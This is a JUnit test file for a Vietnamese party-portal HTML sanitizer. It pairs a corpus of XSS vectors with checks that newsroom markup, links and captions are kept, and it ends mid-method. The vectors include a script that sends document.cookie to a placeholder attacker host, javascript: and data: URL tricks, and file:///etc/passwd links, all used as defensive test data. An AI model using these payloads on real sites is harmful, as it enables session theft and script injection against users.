package vn.tochuc.portal.platform;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.NullAndEmptySource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.web.util.HtmlUtils;

import static org.assertj.core.api.Assertions.assertThat;

/** The article body allow-list: a corpus of known XSS vectors, and the markup a newsroom needs. */
class RichTextTest {

	/** Tags that must never come out, whatever went in. */
	private static final Pattern FORBIDDEN_TAG = Pattern.compile(
			"<\\s*/?\\s*(script|iframe|frame|frameset|object|embed|applet|svg|math|style|link|meta|base|form|input"
					+ "|button|select|option|textarea|noscript|template|xmp|plaintext|video|audio|source|marquee"
					+ "|isindex|keygen)\\b",
			Pattern.CASE_INSENSITIVE);

	/** An event handler or inline style inside any tag. */
	private static final Pattern HANDLER_OR_STYLE = Pattern.compile("<[^>]*\\s(on[a-z]+|style|formaction|srcdoc|xmlns)\\s*=",
			Pattern.CASE_INSENSITIVE);

	/** Any attribute (quoted or not) holding a script-capable URL scheme. */
	private static final Pattern DANGEROUS_URL = Pattern.compile(
			"<[^>]*\\s[a-z:-]+\\s*=\\s*[\"']?\\s*(javascript|vbscript|livescript|data|jar):", Pattern.CASE_INSENSITIVE);

	/** Every attribute the policy may let through. */
	private static final Set<String> ALLOWED_ATTRIBUTES = Set.of("href", "title", "src", "alt", "width", "height",
			"colspan", "rowspan", "scope", "class", "rel");

	private static final Pattern ATTRIBUTE_NAME = Pattern.compile("\\s([a-zA-Z_:][-a-zA-Z0-9_:.]*)\\s*=");

	private static final Pattern TAG = Pattern.compile("<[a-zA-Z][^>]*>");

	static void assertSafe(String input) {
		String output = RichText.sanitize(input);
		assertThat(output).as("sanitized %s", input)
			.doesNotContainPattern(FORBIDDEN_TAG)
			.doesNotContainPattern(HANDLER_OR_STYLE)
			.doesNotContainPattern(DANGEROUS_URL);
		var tags = TAG.matcher(output);
		while (tags.find()) {
			var attributes = ATTRIBUTE_NAME.matcher(tags.group());
			while (attributes.find()) {
				assertThat(attributes.group(1).toLowerCase(Locale.ROOT)).as("attribute in %s (from %s)", output, input)
					.isIn(ALLOWED_ATTRIBUTES);
			}
		}
		// Cleaning the stored HTML again (the next edit) never brings anything back.
		String again = RichText.sanitize(output);
		assertThat(again).as("re-sanitized %s", output)
			.doesNotContainPattern(FORBIDDEN_TAG)
			.doesNotContainPattern(HANDLER_OR_STYLE)
			.doesNotContainPattern(DANGEROUS_URL);
	}

	/** The first href of the output, as a browser reads it (entities decoded). */
	static String hrefOf(String html) {
		var matcher = Pattern.compile("href=\"([^\"]*)\"").matcher(html);
		assertThat(matcher.find()).as("an href in %s", html).isTrue();
		return HtmlUtils.htmlUnescape(matcher.group(1));
	}

	@Nested
	class XssCorpus {

		@ParameterizedTest
		@ValueSource(strings = {
				"<script>alert(1)</script>",
				"<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
				"<script type=\"module\">import('https://evil.example')</script><p>Tin</p>",
				"<scr<script>ipt>alert(1)</scr</script>ipt>",
				"<<script>script>alert(1)<</script>/script>",
				"<script\n>alert(1)</script\n>",
				"<p>Tin<script>document.location='https://evil.example/?c='+document.cookie</script></p>",
				"<img src=x onerror=alert(1)>",
				"<img src=\"/a.png\" onerror=\"alert(1)\">",
				"<img src=/a.png onerror=alert(1)//>",
				"<IMG SRC=\"javascript:alert('XSS');\">",
				"<img src=\"/a.png\" alt=\"x\" onerror=\"alert(1)\"//\">",
				"<img \"\"\"><script>alert(1)</script>\">",
				"<img src=\"/a.png\"onerror=\"alert(1)\">",
				"<img/src=\"/a.png\"/onerror=alert(1)>",
				"<img src=`javascript:alert(1)`>",
				"<svg onload=alert(1)>",
				"<svg><script>alert(1)</script></svg>",
				"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
				"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
				"<a href=\"javascript:alert(1)\">Xem</a>",
				"<a href=\"JaVaScRiPt:alert(1)\">Xem</a>",
				"<a href=\" javascript:alert(1)\">Xem</a>",
				"<a href=\"jav&#x09;ascript:alert(1)\">Xem</a>",
				"<a href=\"jav\tascript:alert(1)\">Xem</a>",
				"<a href=\"jav\nascript:alert(1)\">Xem</a>",
				"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Xem</a>",
				"<a href=\"&#x6A;avascript&colon;alert(1)\">Xem</a>",
				"<a href=\"javascript&#0000058alert(1)\">Xem</a>",
				"<a href=\"\u0001javascript:alert(1)\">Xem</a>",
				"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Xem</a>",
				"<a href=\"DATA:text/html,<script>alert(1)</script>\">Xem</a>",
				"<a href=\"vbscript:msgbox(1)\">Xem</a>",
				"<a href=\"livescript:alert(1)\">Xem</a>",
				"<a href=\"https://example.vn\" onclick=\"alert(1)\" onmouseover=\"alert(2)\">Xem</a>",
				"<a href=\"https://example.vn\" target=\"_blank\" formaction=\"javascript:alert(1)\">Xem</a>",
				"<iframe src=\"https://evil.example\"></iframe>",
				"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
				"<object data=\"https://evil.example/x.swf\"></object>",
				"<embed src=\"https://evil.example/x.swf\">",
				"<applet code=\"Evil.class\"></applet>",
				"<p style=\"background:url(javascript:alert(1))\">Tin</p>",
				"<div style=\"width: expression(alert(1))\">Tin</div>",
				"<style>body{background:url(\"javascript:alert(1)\")}</style><p>Tin</p>",
				"<style>@import 'https://evil.example/x.css';</style>",
				"<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
				"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
				"<select><option>Chọn</option><img src=x onerror=alert(1)></select>",
				"<form action=\"https://evil.example\"><input name=\"password\" type=\"password\"><button>Gửi</button></form>",
				"<input autofocus onfocus=alert(1)>",
				"<textarea><script>alert(1)</script></textarea>",
				"<base href=\"https://evil.example/\">",
				"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
				"<meta charset=\"utf-7\">",
				"<p onclick=\"alert(1)\">Tin</p>",
				"<h2 onmouseover=\"alert(1)\">Tiêu đề</h2>",
				"<table background=\"javascript:alert(1)\"><tr><td onclick=alert(1)>1</td></tr></table>",
				"<td background=\"javascript:alert(1)\">1</td>",
				"<p>Chưa đóng <strong>thẻ <em>nào <a href=\"https://example.vn\" onclick=alert(1)>cả",
				"<p title='\"><script>alert(1)</script>'>Tin</p>",
				"<a href=\"/bai-viet/x\" title='\"><img src=x onerror=alert(1)>'>Tin</a>",
				"<a href='https://example.vn/\"onmouseover=\"alert(1)'>Tin</a>",
				"<img src=\"//evil.example/pixel.png\" alt=\"x\">",
				"<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
				"<div><template><script>alert(1)</script></template></div>",
				"<xmp><script>alert(1)</script></xmp>",
				"<video><source onerror=\"alert(1)\"></video>",
				"<audio src=x onerror=alert(1)>",
				"<marquee onstart=alert(1)>Tin</marquee>",
				"<details open ontoggle=alert(1)>",
				"<body onload=alert(1)>",
				"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
				"<![CDATA[<script>alert(1)</script>]]>",
				"<?xml version=\"1.0\"?><script>alert(1)</script>",
				"<div xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></div>",
				"<p class=\"align-center\" id=\"x\" data-x=\"1\" onclick=\"alert(1)\">Tin</p>",
				"<img src=\"https://example.vn/a.png\" srcset=\"javascript:alert(1) 1x\" usemap=\"#m\">",
				"<a href=\"https://example.vn\" ping=\"https://evil.example\" download>Tin</a>",
		})
		void dangerousMarkupIsRemoved(String vector) {
			assertSafe(vector);
		}

		@Test
		void scriptsGoWithTheirContent() {
			String out = RichText.sanitize("<p>Trước</p><script>alert('xss')</script><p>Sau</p>");
			assertThat(out).doesNotContain("alert").doesNotContainIgnoringCase("script");
			assertThat(RichText.toPlainText(out)).isEqualTo("Trước Sau");
		}

		@Test
		void stylesGoWithTheirContent() {
			String out = RichText.sanitize("<style>p{color:red}</style><p>Tin</p>");
			assertThat(out).doesNotContain("color").isEqualTo("<p>Tin</p>");
		}

		@Test
		void aJavascriptLinkKeepsItsTextButLosesTheLink() {
			String out = RichText.sanitize("<p><a href=\"javascript:alert(1)\">Xem chi tiết</a></p>");
			assertThat(out).doesNotContain("<a").doesNotContainIgnoringCase("javascript");
			assertThat(RichText.toPlainText(out)).isEqualTo("Xem chi tiết");
		}

		@ParameterizedTest
		@ValueSource(strings = { "javascript:alert(1)", "JaVaScRiPt:alert(1)", "jav&#x09;ascript:alert(1)",
				"jav&#x0A;ascript:alert(1)", "&#106;avascript:alert(1)", "data:text/html,<b>x</b>",
				"vbscript:msgbox(1)", "//evil.example/x", "///evil.example/x", "\\\\evil.example\\x",
				"file:///etc/passwd", "ftp://example.vn/x",
				"tel:javascript:alert(1)", "about:blank", "chrome://settings" })
		void unsafeOrUnexpectedHrefsAreDropped(String href) {
			String out = RichText.sanitize("<a href=\"" + href + "\">Liên kết</a>");
			assertThat(out).doesNotContain("href").doesNotContain("<a");
			assertThat(RichText.toPlainText(out)).isEqualTo("Liên kết");
		}

		@ParameterizedTest
		@ValueSource(strings = { "//evil.example/pixel.png", "javascript:alert(1)", "data:image/png;base64,iVBORw0KGgo=",
				"x", "media/2025/01/a.jpg", "ftp://example.vn/a.png", "file:///etc/passwd", "tel:0238", "#anh",
				"mailto:a@example.vn" })
		void unsafeImageSourcesAreDropped(String src) {
			String out = RichText.sanitize("<img src=\"" + src + "\" alt=\"Ảnh\">");
			assertThat(out).doesNotContain("src=").doesNotContain("evil").doesNotContainIgnoringCase("javascript");
		}

		@ParameterizedTest
		@ValueSource(strings = { "/\\evil.example/x", "/\\/evil.example/x" })
		void backslashProtocolRelativeUrlsAreDroppedToo(String url) {
			String out = RichText.sanitize("<a href=\"" + url + "\">Tin</a><img src=\"" + url + "\" alt=\"Ảnh\">");
			assertThat(out).doesNotContain("evil.example");
		}

		@Test
		void spacesAndControlCharactersInsideUrlsAreEncodedNotPassedThrough() {
			assertThat(hrefOf(RichText.sanitize("<a href=\"https://example.vn/a b\">Tin</a>")))
				.isEqualTo("https://example.vn/a%20b");
			assertThat(hrefOf(RichText.sanitize("<a href=\"https://example.vn/\tx\">Tin</a>")))
				.doesNotContain("\t");
		}

		@Test
		void unknownClassesAreDroppedAllowedOnesKept() {
			assertThat(RichText.sanitize("<p class=\"evil\">Tin</p>")).isEqualTo("<p>Tin</p>");
			assertThat(RichText.sanitize("<p class=\"align-center\">Tin</p>")).isEqualTo("<p class=\"align-center\">Tin</p>");
			assertThat(RichText.sanitize("<p class=\"align-center evil\">Tin</p>")).isEqualTo("<p>Tin</p>");
		}

		@Test
		void unclosedTagsAreBalanced() {
			String out = RichText.sanitize("<p>Chưa đóng <strong>thẻ <em>nào");
			assertThat(out).isEqualTo("<p>Chưa đóng <strong>thẻ <em>nào</em></strong></p>");
		}

		@Test
		void strayClosingTagsAndAngleBracketsInTextAreHarmless() {
			String out = RichText.sanitize("</div></p>1 < 2 && 3 > 2 <p>Tin</p>");
			assertThat(out).doesNotContain("</div>").contains("&lt;").contains("<p>Tin</p>");
			assertThat(RichText.toPlainText(out)).isEqualTo("1 < 2 && 3 > 2 Tin");
		}

		@Test
		void externalTargetIsDroppedAndLinksStillGetNoopener() {
			String out = RichText.sanitize("<a href=\"https://example.vn\" target=\"_blank\" rel=\"opener\">Tin</a>");
			assertThat(out).doesNotContain("target").doesNotContain("\"opener\"").contains("noopener").contains("noreferrer");
		}

	}

	/**
	 * The link setting: relative-link preservation is off (see {@link RichText}). Absolute links with
	 * an allowed scheme, paths from this site's root and fragments stay as written; every other
	 * relative link is dropped rather than resolved; no scheme that runs script survives however
	 * it is written; nothing leads off the site through "//" or "\\".
	 */
	@Nested
	class Links {

		static final URI PAGE = URI.create("https://bantochuc.nghean.dcs.vn/bai-viet/hoi-nghi-truc-tuyen");

		static void assertLinkDropped(String href) {
			String out = RichText.sanitize("<p><a href=\"" + href + "\">Liên kết</a></p>");
			assertThat(out).as("sanitized %s", href).isEqualTo("<p>Liên kết</p>");
		}

		@ParameterizedTest
		@ValueSource(strings = { "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)",
				"jav&#x09;ascript:alert(1)", "jav&#9;ascript:alert(1)", "jav&#x0A;ascript:alert(1)",
				"jav&#x0D;ascript:alert(1)", "jav\tascript:alert(1)", "jav\nascript:alert(1)", "java\r\nscript:alert(1)",
				"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", "&#x6A;avascript&colon;alert(1)",
				"javascript&#0000058alert(1)", "\u0000javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
				"DATA:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
				"vbscript:msgbox(1)", "VbScRiPt:msgbox(1)", "vb&#x09;script:msgbox(1)", "tel:javascript:alert(1)" })
		void scriptSchemesAreRemovedHoweverTheyAreWritten(String href) {
			assertLinkDropped(href);
		}

		@ParameterizedTest
		@ValueSource(strings = { "//evil.example/x", "///evil.example/x", "////evil.example", " //evil.example",
				"\t//evil.example", "&#47;&#47;evil.example", "&#x2F;&#x2F;evil.example", "\\\\evil.example\\x",
				"\\\\evil", "\\/evil.example", "/\\evil.example", "/\\/evil.example", "/&#92;evil.example",
				"%2F%2Fevil.example", "https:/\\evil.example", "http:evil.example" })
		void protocolRelativeAndBackslashLinksAreRemoved(String href) {
			assertLinkDropped(href);
		}

		@ParameterizedTest
		@ValueSource(strings = { "/\t/evil.example", "/\n/evil.example", "/&#x09;/evil.example", "/&#x0A;/evil.example" })
		void whitespaceCannotTurnASitePathIntoAnotherSite(String href) {
			String read = hrefOf(RichText.sanitize("<a href=\"" + href + "\">Tin</a>"));
			assertThat(read).startsWith("/").doesNotContainPattern("[\\s\\x00-\\x1f]");
			assertThat(read.charAt(1)).isNotIn('/', '\\');
			assertThat(PAGE.resolve(read).getHost()).isEqualTo(PAGE.getHost());
		}

		@ParameterizedTest
		@ValueSource(strings = { "bai-viet/hoi-nghi", "../bai-viet/hoi-nghi", "./hoi-nghi", "hoi-nghi.html", "?page=2",
				"bai-viet/hoi-nghi#muc-2", "evil.example", "www.evil.example/x" })
		void documentRelativeLinksAreDroppedNotResolved(String href) {
			assertLinkDropped(href);
		}

		@ParameterizedTest
		@ValueSource(strings = { "/bai-viet/hoi-nghi-truc-tuyen", "/chuyen-muc/tin-tuc?page=2",
				"/van-ban/nghi-quyet-18-nq-tw#dieu-1", "/", "#muc-2", "#" })
		void pathsFromTheSiteRootAndFragmentsStayAsWritten(String href) {
			String read = hrefOf(RichText.sanitize("<a href=\"" + href + "\">Tin</a>"));
			assertThat(read).isEqualTo(href);
			assertThat(PAGE.resolve(read).getHost()).isEqualTo(PAGE.getHost());
		}

		@ParameterizedTest
		@CsvSource(delimiter = '|', value = { "https://dangcongsan.vn/tin-tuc|https://dangcongsan.vn/tin-tuc",
				"http://nghean.gov.vn|http://nghean.gov.vn", "HTTPS://NGHEAN.GOV.VN/|HTTPS://NGHEAN.GOV.VN/",
				"mailto:bantochuc@nghean.dcs.vn|mailto:bantochuc@nghean.dcs.vn", "tel:02383844555|tel:02383844555",
				"tel:+84 238 3844 555|tel:+84%20238%203844%20555", "tel:0238 3844-555|tel:0238%203844-555" })
		void httpHttpsMailtoAndTelephoneLinksStay(String href, String read) {
			assertThat(hrefOf(RichText.sanitize("<a href=\"" + href + "\">Liên hệ</a>"))).isEqualTo(read);
		}

		@ParameterizedTest
		@ValueSource(strings = { "tel:0238<script>", "tel:0238 onclick=alert(1)", "tel:", "tel:+", "tel:abc" })
		void aTelephoneLinkHoldsOnlyANumber(String href) {
			String out = RichText.sanitize("<a href=\"" + href + "\">Gọi</a>");
			assertThat(out).doesNotContain("href").doesNotContain("onclick").doesNotContain("<script");
		}

		@ParameterizedTest
		@ValueSource(strings = { "<p style=\"color:red\">Tin</p>", "<a href=\"/x\" style=\"position:fixed;top:0\">Tin</a>",
				"<img src=\"/a.png\" alt=\"a\" style=\"width:100%\">",
				"<span style=\"background:url(javascript:alert(1))\">Tin</span>", "<td style=\"x\">1</td>",
				"<style>p{color:red}</style><p>Tin</p>", "<p>Tin<style>@import 'https://evil.example/x.css';</style></p>",
				"<noscript><p>Tin</p></noscript>", "<noscript><style></noscript><img src=x onerror=alert(1)>",
				"<p><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript></p>",
				"<select name=\"x\"><option>1</option></select>", "<select><style><img src=x onerror=alert(1)></style></select>",
				"<select><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></select>",
				"<form><select autofocus onfocus=alert(1)><option>1</select></form>" })
		void noStyleNoscriptOrSelectEverPasses(String html) {
			String out = RichText.sanitize(html);
			assertThat(out).as("sanitized %s", html)
				.doesNotContainIgnoringCase("style")
				.doesNotContainIgnoringCase("noscript")
				.doesNotContainIgnoringCase("<select")
				.doesNotContainIgnoringCase("<option")
				.doesNotContainIgnoringCase("onerror")
				.doesNotContainIgnoringCase("onfocus")
				.doesNotContainIgnoringCase("<iframe")
				.doesNotContainIgnoringCase("srcdoc");
			assertSafe(html);
		}

	}

	@Nested
	class NewsMarkup {

		@Test
		void paragraphsHeadingsAndEmphasisAreKept() {
			String html = "<h2>Kết quả Đại hội</h2><p>Đại hội đã bầu <strong>53</strong> đồng chí vào "
					+ "<em>Ban Chấp hành</em>.</p><h3>Chương trình hành động</h3><p>Nội dung <b>đậm</b>, <i>nghiêng</i>, "
					+ "<u>gạch chân</u>, <s>gạch ngang</s>, H<sub>2</sub>O, m<sup>2</sup>.</p>";
			assertThat(RichText.sanitize(html)).isEqualTo(html);
		}

		@Test
		void listsAndQuotesAreKept() {
			String html = "<ul><li>Công tác tổ chức</li><li>Công tác cán bộ</li></ul>"
					+ "<ol><li>Thứ nhất</li><li>Thứ hai</li></ol>"
					+ "<blockquote><p>Cán bộ là cái gốc của mọi công việc.</p></blockquote>";
			assertThat(RichText.sanitize(html)).isEqualTo(html);
		}

		@Test
		void httpsLinksGetNoopenerNoreferrer() {
			String out = RichText.sanitize("<p><a href=\"https://dangcongsan.vn/tin-tuc\">Báo Điện tử Đảng Cộng sản</a></p>");
			assertThat(out).contains("href=\"https://dangcongsan.vn/tin-tuc\"")
				.containsPattern("rel=\"noopener noreferrer\"|rel=\"noreferrer noopener\"")
				.contains(">Báo Điện tử Đảng Cộng sản</a>");
		}

		@Test
		void relativeAndAnchorLinksAreKept() {
			assertThat(hrefOf(RichText.sanitize("<a href=\"/bai-viet/hoi-nghi-truc-tuyen\">Xem</a>")))
				.isEqualTo("/bai-viet/hoi-nghi-truc-tuyen");
			// "=" may come out as an entity; the address a browser reads is the same.
			assertThat(hrefOf(RichText.sanitize("<a href=\"/chuyen-muc/tin-tuc?page=2\">Xem</a>")))
				.isEqualTo("/chuyen-muc/tin-tuc?page=2");
			assertThat(hrefOf(RichText.sanitize("<a href=\"#muc-2\">Mục 2</a>"))).isEqualTo("#muc-2");
		}

		@Test
		void mailtoLinksAreKept() {
			String out = RichText.sanitize("<a href=\"mailto:bantochuc@nghean.dcs.vn\">Gửi thư</a>");
			assertThat(out).contains("<a href=\"mailto:").contains(">Gửi thư</a>");
			// The sanitizer may encode "@"; the address a browser reads is the same.
			assertThat(hrefOf(out)).isEqualTo("mailto:bantochuc@nghean.dcs.vn");
		}

		@Test
		void imagesKeepSourceAltAndSize() {
			String out = RichText.sanitize(
					"<img src=\"/media/2025/03/0b8f2c3e-1d2a-4c5b-9e7f-0123456789ab.jpg\" alt=\"Quang cảnh hội nghị\" "
							+ "width=\"800\" height=\"533\" title=\"Hội nghị\">");
			assertThat(out).contains("src=\"/media/2025/03/0b8f2c3e-1d2a-4c5b-9e7f-0123456789ab.jpg\"")
				.contains("alt=\"Quang cảnh hội nghị\"")
				.contains("width=\"800\"")
				.contains("height=\"533\"")
				.contains("title=\"Hội nghị\"");
			assertThat(RichText.sanitize("<img src=\"https://example.vn/a.png\" alt=\"\">")).contains("src=\"https://example.vn/a.png\"");
		}

		@Test
		void imageSizesMustBePlainNumbers() {
			String out = RichText.sanitize("<img src=\"/a.png\" alt=\"a\" width=\"100%\" height=\"1e9\">");
			assertThat(out).contains("src=\"/a.png\"").doesNotContain("width").doesNotContain("height");
		}

		@Test
		void figuresWithCaptionsAreKept() {
			String html = "<figure class=\"image\"><img src=\"/media/2025/03/a.jpg\" alt=\"Đại biểu biểu quyết\">"
					+ "<figcaption>Các đại biểu biểu quyết thông qua Nghị quyết.</figcaption></figure>";
			String out = RichText.sanitize(html);
			assertThat(out).startsWith("<figure class=\"image\"><img ").contains("<figcaption>Các đại biểu biểu quyết thông qua Nghị quyết.</figcaption></figure>");
			assertThat(RichText.toPlainText(out)).isEqualTo(RichText.toPlainText(html));
		}

		@Test
		void tablesAreKept() {
			String html = "<table class=\"table\"><caption>Kết quả tinh giản biên chế</caption>"
					+ "<thead><tr><th scope=\"col\">Đơn vị</th><th scope=\"col\">Số người</th></tr></thead>"
					+ "<tbody><tr><td>Sở Nội vụ</td><td>12</td></tr><tr><td colspan=\"2\">Tổng cộng: 12</td></tr></tbody>"
					+ "</table>";
			assertThat(RichText.sanitize(html)).isEqualTo(html);
		}

		@Test
		void vietnameseTextReadsTheSameAfterSanitizing() {
			String html = "<p>Sáng 15/3, Ban Tổ chức Tỉnh ủy Nghệ An tổ chức Hội nghị trực tuyến quán triệt "
					+ "Nghị quyết số 18-NQ/TW “một số vấn đề về tiếp tục đổi mới, sắp xếp tổ chức bộ máy” — "
					+ "với sự tham dự của 1.250 đại biểu (chiếm 98,5%). Đồng chí Thường trực Tỉnh ủy phát biểu: "
					+ "'Cán bộ là cái gốc' & \"gương mẫu\" là trên hết.</p>";
			String out = RichText.sanitize(html);
			assertThat(RichText.toPlainText(out)).isEqualTo(RichText.toPlainText(html));
			// Vietnamese letters are written as they are, not as entities.
			assertThat(out).contains("Ban Tổ chức Tỉnh ủy Nghệ An", "đổi mới, sắp xếp", "Đồng chí Thường trực");
		}

		@Test
		void aWholeArticleBodySurvivesIntact() {
			String html = """
					<p class="align-center"><strong>Đảng bộ tỉnh Nghệ An</strong></p>
					<h2>I. Kết quả</h2>
					<p>Toàn tỉnh đã sắp xếp <a href="/bai-viet/sap-xep-bo-may">bộ máy</a> theo Kết luận 126-KL/TW.</p>
					<ul><li>Giảm 12 đầu mối</li><li>Tinh giản 6.666 biên chế</li></ul>
					<blockquote><p>Tinh – Gọn – Mạnh – Hiệu năng – Hiệu lực – Hiệu quả</p></blockquote>
					<hr>
					<p>Liên hệ: <a href="mailto:bantochuc@nghean.dcs.vn">bantochuc@nghean.dcs.vn</a></p>""";
			String out = RichText.sanitize(html);
			assertThat(RichText.toPlainText(out)).isEqualTo(RichText.toPlainText(html));
			assertThat(out).contains("<h2>I. Kết quả</h2>", "<ul><li>Giảm 12 đầu mối</li>", "<blockquote>",
					"href=\"/bai-viet/sap-xep-bo-may\"", "<p class=\"align-center\"><strong>");
		}

	}

	/**
	 * An empty caption is no caption: neither the editor's placeholder word nor a caption with
	 * nothing a reader could see ever reaches a page.
	 */
	@Nested
	class Captions {

		static final String PHOTO = "<img src=\"/media/2025/07/hoi-nghi.jpg\" alt=\"Quang cảnh hội nghị\" />";

		@ParameterizedTest
		@ValueSource(strings = { "", " ", "&nbsp;", "<br>", "&nbsp;<br />&#160;", "<strong> </strong>", "Caption",
				" caption ", "CAPTION", "Chú thích", "<em>Caption</em>", "Image caption: type here, or leave empty for none",
				"Chú thích ảnh: gõ vào đây, để trống nếu không cần" })
		void anEmptyOrPlaceholderCaptionIsDropped(String caption) {
			String out = RichText.sanitize("<figure class=\"image\">" + PHOTO + "<figcaption>" + caption + "</figcaption></figure>");
			assertThat(out).doesNotContain("figcaption").doesNotContainIgnoringCase("caption").doesNotContain("Chú thích")
				.startsWith("<figure class=\"image\"><img src=\"/media/2025/07/hoi-nghi.jpg\"");
		}

		@ParameterizedTest
		@ValueSource(strings = { "Đại biểu biểu quyết thông qua Nghị quyết", "Caption contest 2025",
				"Chú thích: ảnh tư liệu", "<em>Ảnh:</em> Mai Hương" })
		void aRealCaptionIsKept(String caption) {
			String out = RichText.sanitize("<figure class=\"image\">" + PHOTO + "<figcaption>" + caption + "</figcaption></figure>");
			assertThat(out).endsWith("<figcaption>" + caption + "</figcaption></figure>");
		}

		@Test
		void aCaptionStandsOrFallsOnItsOwnInAFigureOfSeveral() {
			String out = RichText.sanitize("<figure class=\"image\">" + PHOTO + "<figcaption>Caption</figcaption></figure>"
					+ "<figure class=\"image align-right\">" + PHOTO + "<figcaption>Toàn cảnh</figcaption></figure>");
			assertThat(out).containsOnlyOnce("<figcaption>").contains("<figcaption>Toàn cảnh</figcaption>")
				.contains("<figure class=\"image align-right\">");
		}

		@Test
		void aPictureWhoseSourceWasDroppedIsNoPictureAndItsEmptyFigureGoesToo() {
			assertThat(RichText.sanitize("<p>Trước<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"Ảnh dán\">Sau</p>"))
				.isEqualTo("<p>TrướcSau</p>");
			assertThat(RichText.sanitize("<figure class=\"image\"><img src=\"file:///C:/Users/ADMIN/clip_image002.jpg\""
					+ " alt=\"\"><figcaption>Caption</figcaption></figure><p>Tin</p>")).isEqualTo("<p>Tin</p>");
		}

		/** Both ends agree: the word the editor's image plugin writes, and the hint the portal shows instead. */
		@Test
		void theEditorsPlaceholderAndHintAreTheOnesTheSanitizerDrops() throws IOException {
			String imagePlugin = Files.readString(EditorFiles.VENDOR.resolve("plugins/image/plugin.min.js"));
			assertThat(imagePlugin).as("the word HugeRTE writes into a new caption")
				.contains("\"figcaption\",{contentEditable:\"true\"},\"Caption\"");
			String editor = Files.readString(EditorFiles.EDITOR_JS);
			assertThat(editor).contains("var CAPTION_PLACEHOLDER = 'Caption';")
				.contains("editor.translate('Image caption: type here, or leave empty for none')");
			String vietnamese = Files.readString(EditorFiles.EDITOR_VI_JS);
			Matcher hint = Pattern.compile("'Image caption: type here, or leave empty for none': '([^']+)'").matcher(vietnamese);
			assertThat(hint.find()).isTrue();
			assertThat(RichText.CAPTION_PLACEHOLDERS).contains("caption",
					"image caption: type here, or leave empty for none", hint.group(1).toLowerCase(Locale.ROOT));
		}

	}

	/**
	 * The editor's schema and the sanitizer's policy are one list ({@code RichText.ELEMENTS}),
	 * checked from both ends: whatever the editor may write comes through the sanitizer whole,
	 * and nothing the sanitizer keeps is unknown to the editor.
	 */
	@Nested
	class OneListWithTheEditor {

		/** Every element of HTML, and then some, to see which the sanitizer keeps. */
		static final List<String> HTML_ELEMENTS = List.of("a", "abbr", "address", "area", "article", "aside", "audio", "b",
				"bdi", "bdo", "blockquote", "br", "button", "canvas", "caption", "center", "cite", "code", "col",
				"colgroup", "data", "datalist", "dd", "del", "details", "dfn", "dialog", "div", "dl", "dt", "em",
				"fieldset", "figcaption", "figure", "font", "footer", "h2", "h3", "h4", "h5", "h6", "header", "hgroup",
				"hr", "i", "img", "ins", "kbd", "label", "legend", "li", "main", "map", "mark", "menu", "meter", "nav",
				"ol", "optgroup", "output", "p", "picture", "pre", "progress", "q", "rp", "rt", "ruby", "s", "samp",
				"section", "small", "span", "strike", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot",
				"th", "thead", "time", "tr", "tt", "u", "ul", "var", "video", "wbr");

		/** Attributes to offer each element, with values the policy would accept if it allowed them. */
		static final Map<String, String> ATTRIBUTES = Map.ofEntries(Map.entry("href", "/van-ban/nghi-quyet-18"),
				Map.entry("src", "/media/2025/07/a.jpg"), Map.entry("alt", "Ảnh"), Map.entry("title", "Tiêu đề"),
				Map.entry("width", "800"), Map.entry("height", "533"), Map.entry("colspan", "2"), Map.entry("rowspan", "2"),
				Map.entry("scope", "col"), Map.entry("class", "align-center"), Map.entry("id", "muc-1"),
				Map.entry("lang", "vi"), Map.entry("dir", "ltr"), Map.entry("align", "center"), Map.entry("name", "x"),
				Map.entry("cite", "https://example.vn"), Map.entry("datetime", "2025-07-01"), Map.entry("start", "3"),
				Map.entry("type", "a"), Map.entry("border", "1"), Map.entry("summary", "x"), Map.entry("target", "_blank"));

		static Map<String, List<String>> editorElements() {
			Map<String, List<String>> elements = new LinkedHashMap<>();
			for (String rule : RichText.editorSchema().validElements().split(",")) {
				Matcher m = Pattern.compile("^([a-z0-9]+)(?:\\[([^\\]]*)\\])?$").matcher(rule);
				assertThat(m.matches()).as("rule %s", rule).isTrue();
				elements.put(m.group(1), m.group(2) == null ? List.of()
						: Stream.of(m.group(2).split("\\|")).map((a) -> a.replace("!", "")).toList());
			}
			return elements;
		}

		static String sample(String element, List<String> attributes) {
			StringBuilder html = new StringBuilder("<").append(element);
			attributes.forEach((a) -> html.append(' ').append(a).append("=\"").append(ATTRIBUTES.get(a)).append('"'));
			html.append('>');
			return html.append(Set.of("br", "hr", "img").contains(element) ? "" : "Chữ</" + element + ">").toString();
		}

		/** How the element looks where it may stand (a cell in a row in a table, an item in a list). */
		static String inContext(String element, String html) {
			return switch (element) {
				case "td", "th" -> "<table><tbody><tr>" + html + "</tr></tbody></table>";
